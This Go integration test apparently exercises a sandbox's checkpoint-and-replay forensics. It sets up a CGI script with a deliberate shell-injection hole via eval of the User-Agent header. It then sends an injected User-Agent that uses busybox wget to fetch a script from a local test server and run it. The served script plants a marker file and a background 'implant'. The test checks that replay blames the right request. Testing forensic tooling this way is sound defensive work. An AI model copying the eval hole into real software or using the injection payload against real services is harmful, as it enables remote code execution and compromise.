package test

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// greeter is a service with a hole: it lets the shell look at what a caller says of himself.
const greeter = `#!/bin/sh
eval "agent='$HTTP_USER_AGENT'"
printf 'Content-Type: text/plain\r\n\r\nhello %s\n' "$agent"
`

// TestReenact has a guest broken into through a service, among requests that do no harm; noticed later, the machine's past is given to a clone
// again, which names the request and what followed from it. Nothing of it reaches the world a second time.
func TestReenact(t *testing.T) {
	var downloads atomic.Int64
	world := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		downloads.Add(1)
		io.WriteString(w, "#!/bin/sh\ncp $(command -v busybox) /tmp/busyboxd\necho owned > /root/.owned\n/tmp/busyboxd sleep 4000 </dev/null >/dev/null 2>&1 &\n")
	}))
	defer world.Close()
	_, port, _ := net.SplitHostPort(world.Listener.Addr().String())

	h := newHost(t)
	h.serve()
	h.refused(2, []string{"4M"}, "run", "tiny", "web", "--keep-inputs", "1K")
	g := h.run("web", "--publish", "0:80", "--rule", "allow out tcp 127.0.0.1:"+port)
	g.sh("mkdir -p /www/cgi-bin; cat > /www/cgi-bin/greet <<'END'\n%sEND\nchmod 755 /www/cgi-bin/greet; busybox httpd -p 80 -h /www && sleep 1", greeter)
	g.until("the service answers", time.Minute, func() bool { return g.greet("nobody") != "" })
	if said := h.show("web").text("inputs"); !strings.Contains(said, "from the first checkpoint") {
		t.Errorf("show says of the inputs: %q", said)
	}
	cp := g.save()

	if got := g.greet("first"); !strings.Contains(got, "hello first") {
		t.Fatalf("the service says %q", got)
	}
	// Whoever keeps the log dies; what it had written is there, and the next one goes on.
	old := g.kill("gate")[0]
	g.replaced("gate", old)
	g.until("the service answers again", time.Minute, func() bool { return strings.Contains(g.greet("second"), "hello second") })
	attack := fmt.Sprintf("'; busybox wget -q -O /tmp/x http://10.77.0.1:%s/x; sh /tmp/x; echo '", port)
	t.Logf("the attack is answered %q", g.greet(attack))
	g.greet("third")
	g.sh("echo typed > /root/typed; sync")
	g.until("the implant runs", 20*time.Second, func() bool { return runs(h, "web", "/tmp/busyboxd") })
	if downloads.Load() != 1 {
		t.Fatalf("%d downloads", downloads.Load())
	}
	// The daemon dies, and the clone's daemon is another.
	h.killDaemon()
	h.serve()
	g.hangUp()

	h.refused(1, []string{"no such checkpoint"}, "replay", "web@0123456789abcdef")
	r := h.json("replay", "web@"+cp, "--wait", "1s")
	if text := h.must("show", r.text("machine")); !strings.Contains(text, "given again") {
		t.Errorf("show of the clone: %s", text)
	}
	said := r.object("given")
	if complete, _ := said["complete"].(bool); !complete || said.number("refused") != 0 || said.number("flows_out") != 1 {
		t.Errorf("given: %v", said)
	}
	if gaps := fmt.Sprint(said["gaps"]); !strings.Contains(gaps, "replaced") {
		t.Errorf("nothing is said of the gate's death: %s", gaps)
	}
	blamed := 0
	inputs, _ := r["inputs"].([]any)
	for _, in := range inputs {
		in := object(in.(map[string]any))
		tree := fmt.Sprint(in["processes"])
		switch guilty := strings.Contains(tree, "/tmp/busyboxd sleep 4000"); {
		case guilty && !strings.Contains(in.text("text"), "wget -q"), strings.Contains(in.text("text"), "wget -q") && !guilty && in.text("direction") == "in":
			t.Errorf("input %v: the implant follows from it: %t\n%s", in["number"], guilty, tree)
		case guilty:
			blamed++
			for _, want := range []string{"/bin/sh greet", "wget -q -O /tmp/x", "connects to 10.77.0.1:" + port, "/tmp/busyboxd"} {
				if !strings.Contains(tree, want) {
					t.Errorf("its tree lacks %q:\n%s", want, tree)
				}
			}
		}
	}
	if blamed != 1 {
		t.Errorf("%d inputs are blamed for the implant: %v", blamed, r)
	}
	if !runs(h, "web-replay", "/tmp/busyboxd") {
		t.Error("the implant does not run in the clone")
	}
	clone := h.guest("web-replay")
	if got := clone.sh("cat /root/.owned /root/typed"); got != "owned\ntyped" {
		t.Errorf("the clone's disk says %q", got)
	}
	if n := downloads.Load(); n != 1 {
		t.Errorf("%d downloads: the clone reached the world", n)
	}
	clone.hangUp()
	h.must("rm", "web-replay", "--force")

	// In words, and with nothing left.
	out := h.must("replay", "web@"+cp, "--wait", "1s", "--rm", "--as", "again")
	for _, want := range []string{"wget -q", "/tmp/busyboxd sleep 4000", "programs:"} {
		if !strings.Contains(out, want) {
			t.Errorf("the timeline lacks %q:\n%s", want, out)
		}
	}
	t.Log(out)
	h.refused(1, []string{"again"}, "show", "again")
}

// greet calls the service and returns what it says.
func (g *guest) greet(agent string) string {
	c, err := net.DialTimeout("tcp", g.port(0), 5*time.Second)
	if err != nil {
		return ""
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(30 * time.Second))
	fmt.Fprintf(c, "GET /cgi-bin/greet HTTP/1.0\r\nUser-Agent: %s\r\n\r\n", agent)
	b, _ := io.ReadAll(bufio.NewReader(c))
	return string(b)
}

// runs says whether a program runs in a machine.
func runs(h *host, machine, exe string) bool {
	r := h.vigia("ps", machine)
	return r.status == 0 && strings.Contains(r.stdout, exe)
}
